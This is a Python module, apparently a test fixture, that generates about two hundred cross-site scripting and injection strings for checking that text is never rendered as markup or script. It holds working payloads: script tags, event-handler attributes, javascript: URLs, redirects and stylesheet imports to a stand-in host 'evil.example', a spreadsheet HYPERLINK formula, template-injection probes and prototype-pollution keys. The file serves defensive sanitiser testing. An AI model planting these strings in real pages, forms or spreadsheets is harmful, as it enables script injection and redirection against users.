"""Two hundred texts that try to become markup or script."""

from __future__ import annotations

_RUN = "window.__hit=1,alert(1)"
_TAGS = (
    "<img src=x onerror={r}>", "<svg/onload={r}>", "<svg><script>{r}</script></svg>",
    "<script>{r}</script>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle={r}>", "<video><source onerror={r}></video>", "<body onload={r}>",
    "<input autofocus onfocus={r}>", "<math><mtext><img src=x onerror={r}></mtext></math>",
    "<object data='javascript:{r}'></object>", "<embed src='javascript:{r}'>",
    "<a href='javascript:{r}'>x</a>", "<form><button formaction='javascript:{r}'>x</button></form>",
    "<base href='https://evil.example/'>", "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>", "<marquee onstart={r}>",
    "<template><img src=x onerror={r}></template>",
)  # fmt: skip
_BEFORE = (
    "", "</script>", '">', "'>", "</title>", "</textarea>", "</style>", "</noscript>", "-->",
    "</table></details>",
)  # fmt: skip
_OTHER = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>",
    "vbscript:msgbox(1)", "{{ 7*7 }}", "{% raw %}", "${alert(1)}", "#{alert(1)}", "<!--<script>",
    "\u2028alert(1)\u2029", "\x00<img src=x onerror=alert(1)>", "'-alert(1)-'", '"-alert(1)-"',
    "\\u003cimg src=x onerror=alert(1)\\u003e", "__proto__", "constructor", "toString",
    "=HYPERLINK(\"https://evil.example\")", "\ud83d\ude00\u202e<b>",
)  # fmt: skip

PAYLOADS = [
    *(before + tag.format(r=_RUN) for tag in _TAGS for before in _BEFORE), *_OTHER,
]  # fmt: skip
